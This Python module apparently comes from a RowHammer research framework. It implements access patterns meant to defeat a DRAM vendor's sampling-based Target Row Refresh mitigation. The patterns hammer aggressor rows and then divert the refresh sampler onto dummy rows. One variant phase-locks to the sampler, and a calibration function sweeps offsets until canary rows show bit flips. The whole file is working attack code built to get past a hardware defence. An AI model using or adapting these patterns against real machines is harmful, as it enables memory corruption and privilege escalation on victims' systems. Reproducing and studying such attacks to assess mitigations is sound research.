"""Custom pattern against vendor B's sampling-based TRR (§7.1).

Strategy recovered via U-TRR: a single sampled row, shared across banks
(B_TRR1/B_TRR2), fed by a deterministic every-Nth-ACT sampler, and never
cleared by a TRR-induced refresh (Obs B3-B5).  Hammer the aggressors
immediately after a TRR-capable REF, then spend the rest of the window
activating dummy rows — in up to four banks in parallel, the most the
tFAW timing allows (footnote 12) — so the *last* sample before the next
TRR-capable REF always lands on a dummy.  A dummy phase at least one
sample period long makes the diversion deterministic.

For B_TRR3, whose sampler is per-bank, the dummy must live in the
aggressor's own bank (footnote 13).
"""

from __future__ import annotations

from collections.abc import Hashable

from ..dram import HammerMode
from ..errors import AttackConfigError
from .base import AccessPattern, AttackContext
from .session import AttackSession


class VendorBPattern(AccessPattern):
    """Aggressors first, then a long multi-bank dummy phase per window."""

    name = "vendor-b-custom"

    def __init__(self, aggressor_hammers: int = 80,
                 same_bank_dummy: bool = False) -> None:
        if aggressor_hammers < 1:
            raise AttackConfigError("aggressor_hammers must be >= 1")
        self.aggressor_hammers = aggressor_hammers
        #: B_TRR3 samples per bank: divert within the aggressor's bank.
        self.same_bank_dummy = same_bank_dummy

    def aggressor_physical(self, context: AttackContext) -> tuple[int, ...]:
        return context.aggressors()

    def run_window(self, session: AttackSession,
                   context: AttackContext) -> None:
        rows = context.aggressors()
        per_row = 2 * self.aggressor_hammers // len(rows)
        aggressors = [(context.logical(row), per_row) for row in rows]
        session.hammer(context.bank, aggressors, HammerMode.INTERLEAVED)
        if self.same_bank_dummy:
            self._divert_same_bank(session, context)
        else:
            self._divert_multibank(session, context)
        session.fill_window()

    def _divert_same_bank(self, session: AttackSession,
                          context: AttackContext) -> None:
        if not context.dummy_rows:
            raise AttackConfigError("context provides no same-bank dummies")
        dummy = context.logical(context.dummy_rows[0])
        timing = session._host.timing
        trc = timing.trc_ps
        refs_left = context.trr_period - session.refs_into_window()
        window_ps = ((refs_left - 1) * (timing.trefi_ps - timing.trfc_ps)
                     + session.remaining_ps)
        acts = window_ps // trc
        if acts > 0:
            # Auto-splits across intervals, issuing the REFs in between.
            session.hammer(context.bank, [(dummy, acts)],
                           HammerMode.CASCADED)

    def _divert_multibank(self, session: AttackSession,
                          context: AttackContext) -> None:
        if not context.dummy_banks:
            raise AttackConfigError("context provides no per-bank dummies")
        rows = {bank: context.logical(row)
                for bank, row in context.dummy_banks.items()}
        timing = session._host.timing
        act_cost = session.multibank_act_cost_ps(len(rows))
        # Dummy ACT budget left in this window.
        refs_left = context.trr_period - session.refs_into_window()
        window_ps = (refs_left - 1) * (timing.trefi_ps - timing.trfc_ps) \
            + session.remaining_ps
        per_bank = window_ps // act_cost // len(rows)
        if per_bank > 0:
            session.hammer_multibank(rows, per_bank)


class PhaseLockedSamplerPattern(AccessPattern):
    """Phase-locked diversion for short TRR windows (B_TRR3).

    B_TRR3's 2-REF TRR window leaves no room for a dummy phase longer
    than the sample period, so the window-structured diversion of
    :class:`VendorBPattern` cannot work there.  But the sampler is a
    *deterministic* every-Nth-ACT counter and the attacker issues every
    activation in the bank: reserving the activations at positions
    ``offset (mod sample_period)`` (plus a guard band) for a dummy row
    pins every sample to the dummy — forever — while the aggressors
    hammer at nearly full rate in between.

    The attacker does not know the sampler's phase; ``offset`` is found
    by trial (:func:`calibrate_phase_offset` sweeps offsets on a canary
    victim until the attack bites).  The sample period itself is
    measurable with U-TRR burst-length experiments (§6.2.2 bounds it from
    above at ~2K activations; finer probing pins it down).
    """

    name = "vendor-b-phase-locked"

    def __init__(self, sample_period: int, offset: int = 0,
                 guard: int = 1) -> None:
        if sample_period < 4:
            raise AttackConfigError("sample_period must be >= 4")
        if guard < 0 or 2 * guard + 2 >= sample_period:
            raise AttackConfigError("guard band swallows the whole period")
        self.sample_period = sample_period
        self.offset = offset % sample_period
        self.guard = guard

    def aggressor_physical(self, context: AttackContext) -> tuple[int, ...]:
        return context.aggressors()

    def window_key(self, session: AttackSession,
                   context: AttackContext) -> Hashable:
        """Pacing state plus the sampler phase of the bank's ACT ledger,
        which :meth:`_band_delta` reads."""
        position = session._host.acts_per_bank.get(context.bank, 0)
        return (*super().window_key(session, context),
                position % self.sample_period)

    def _band_delta(self, position: int) -> int:
        """0 while inside the reserved band, else acts until it starts."""
        delta = (self.offset - position) % self.sample_period
        if delta > self.sample_period - (2 * self.guard + 1):
            return 0  # inside the trailing part of the band
        return delta

    def run_window(self, session: AttackSession,
                   context: AttackContext) -> None:
        if not context.dummy_rows:
            raise AttackConfigError("context provides no dummy rows")
        dummy = context.logical(context.dummy_rows[0])
        rows = [context.logical(row) for row in context.aggressors()]
        timing = session._host.timing
        interval_acts = (timing.trefi_ps - timing.trfc_ps) // timing.trc_ps
        budget = context.trr_period * interval_acts
        host = session._host
        base = session.acts_issued
        toggle = 0
        while session.acts_issued - base < budget:
            position = host.acts_per_bank.get(context.bank, 0)
            delta = self._band_delta(position)
            if delta == 0:
                session.hammer(context.bank, [(dummy, 1)],
                               HammerMode.CASCADED)
                continue
            run = min(delta, budget - (session.acts_issued - base))
            if run >= len(rows):
                shares = [run // len(rows)] * len(rows)
                shares[0] += run - sum(shares)
                ordered = rows[toggle:] + rows[:toggle]
                session.hammer(context.bank, list(zip(ordered, shares)),
                               HammerMode.INTERLEAVED)
                toggle = (toggle + 1) % len(rows)
            else:
                session.hammer(context.bank, [(rows[toggle], run)],
                               HammerMode.CASCADED)
        session.fill_window()


def calibrate_phase_offset(executor, context_factory, trr_period: int,
                           sample_period: int, windows: int,
                           canary_victims, guard: int = 1) -> int:
    """Find a working phase offset by trial on canary victim rows.

    Honest trial-and-error (no chip internals): returns the first offset
    whose phase-locked attack flips one of the canaries.
    """
    step = 2 * guard + 1
    for offset in range(0, sample_period, step):
        pattern = PhaseLockedSamplerPattern(sample_period, offset, guard)
        for victim in canary_victims:
            context = context_factory(victim)
            result = executor.run(pattern, context, windows)
            if result.flips_at(context.victim_physical):
                return offset
    raise AttackConfigError(
        "no phase offset produced bit flips on the canary victims; "
        "wrong sample_period estimate?")
